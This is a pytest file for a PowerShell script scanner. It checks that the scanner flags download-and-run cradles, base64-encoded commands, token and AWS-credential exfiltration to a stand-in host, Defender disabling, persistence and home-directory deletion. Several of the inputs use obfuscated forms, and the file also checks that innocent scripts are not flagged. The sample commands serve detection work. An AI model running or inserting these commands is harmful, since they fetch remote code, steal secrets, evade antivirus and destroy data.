"""PowerShell scripts: spellings of each thing, encoded commands, innocent scripts."""

from __future__ import annotations

import base64

import pytest

from fimci.model import Capability
from fimci.readers.code import powershell

ENCODED = base64.b64encode("iwr http://c2.example.invalid/a | iex".encode("utf-16-le")).decode()


def told(text: str) -> set[str]:
    return {
        f"{r.name} {r.subject}" for r in powershell.read("a.ps1", text.encode()) if isinstance(r, Capability)
    }


@pytest.mark.parametrize(
    "text",
    [
        "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/x')",
        "iwr http://c2.example.invalid/x -UseBasicParsing | iex",
        "Invoke-Expression (irm 'http://c2.example.invalid/x')",
        "i`e`x (i`wr http://c2.example.invalid/x)",
        "& ('i' + 'ex') (irm http://c2.example.invalid/x)",
        "&('{1}{0}' -f 'x','ie') (irm http://c2.example.invalid/x)",
        "$s = irm http://c2.example.invalid/x; iex $s",
        "$u = 'http://c2' + '.example.invalid/x'\niex (irm $u)",
        "& ([scriptblock]::Create((irm http://c2.example.invalid/x)))",
        "iwr http://c2.example.invalid/x.exe -OutFile x.exe; Start-Process x.exe",
        "(New-Object Net.WebClient).DownloadFile('http://c2.example.invalid/x','x.exe'); & x.exe",
        f"powershell -nop -w hidden -enc {ENCODED}",
        f"powershell.exe -EncodedCommand {ENCODED}",
    ],
)
def test_what_is_fetched_and_run(text: str) -> None:
    found = told(text)
    assert any(one.startswith("download-and-run c2.example.invalid -> ") for one in found), found


@pytest.mark.parametrize(
    "text",
    [
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
            "aXdyIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQ=')))"
        ),
        "$b = [Convert]::FromBase64String('aXdyIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQ=')\nInvoke-Expression $b",
        f"pwsh -e {ENCODED}",
    ],
)
def test_encoded_payloads(text: str) -> None:
    found = told(text)
    assert any(one.startswith("encoded-payload base64 -> ") for one in found)
    assert "network c2.example.invalid" in found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "irm http://c2.example.invalid -Method Post -Body $env:NPM_TOKEN",
            "exfiltration NPM_TOKEN -> c2.example.invalid",
        ),
        ("Get-ChildItem env: | Out-File x", "environment-bulk *"),
        ("Get-Content $env:USERPROFILE\\.aws\\credentials", "credentials .aws/credentials"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "process set-mppreference"),
        ("Register-ScheduledTask -TaskName x -Action $a", "persistence scheduled task"),
        (
            "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' x y",
            "persistence CurrentVersion\\Run",
        ),
        ("Add-Content $PROFILE 'x'", "persistence $PROFILE"),
        ("Get-Clipboard", "clipboard Get-Clipboard"),
        ("Remove-Item -Recurse -Force $HOME", "filesystem-delete $HOME"),
        ("npm publish", "self-propagation npm publish"),
    ],
)
def test_effects(text: str, expected: str) -> None:
    assert expected in told(text), told(text)


@pytest.mark.parametrize(
    "text",
    [
        "param([string]$Name = 'x')\nWrite-Host \"Hello $Name\"",
        "Get-ChildItem -Recurse *.cs | ForEach-Object { $_.Name }",
        "dotnet build -c Release\nif ($LASTEXITCODE -ne 0) { exit 1 }",
        "Set-StrictMode -Version Latest\nRemove-Item -Recurse -Force dist",
        "# iex (irm http://c2.example.invalid)\n<# iwr http://c2.example.invalid | iex #>",
        "npm ci; npm test",
    ],
)
def test_innocent_scripts_say_nothing(text: str) -> None:
    assert told(text) == set()


def test_text_in_utf_16_and_lines() -> None:
    data = b"\xff\xfe" + "\r\n\r\niwr http://c2.example.invalid | iex".encode("utf-16-le")
    records = [r for r in powershell.read("a.ps1", data) if isinstance(r, Capability)]
    assert {record.at.line for record in records} == {3}


def test_what_it_wants() -> None:
    assert powershell.wants("a/B.PS1", b"")
    assert powershell.wants("x.psm1", b"")
    assert not powershell.wants("x.ps1.txt", b"")
